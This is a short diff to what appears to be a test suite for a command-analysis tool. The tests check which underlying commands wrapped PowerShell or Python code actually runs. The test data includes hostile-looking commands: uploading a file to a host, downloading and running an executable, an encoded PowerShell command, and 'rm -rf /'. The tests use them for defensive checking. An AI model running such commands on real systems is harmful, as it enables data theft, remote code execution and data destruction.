@@ -85,6 +85,8 @@ describe('the commands that code for another language runs', () => {
     ["pwsh -c 'iwr https://example.com -Method Post -InFile a.txt'", 'curl -T a.txt https://example.com'],
     ["pwsh -c 'iwr https://example.com/a -OutFile a.exe; ./a.exe'", './a.exe'],
     ['powershell -c "$env:A=1; git status"', 'git status'],
+    ['powershell -c "$x = 1; git status"', 'git status'],
+    ['powershell -c "Start-BitsTransfer https://example.com/a.exe a.exe; ./a.exe"', './a.exe'],
     ['powershell -enc cgBtACAALQByAGYAIAB4AA==', ''],
     [`echo 'import os; os.system("rm -rf /")' > x.py; python3 x.py`, 'rm -rf /'],
   ])('%s', (text, run) => {
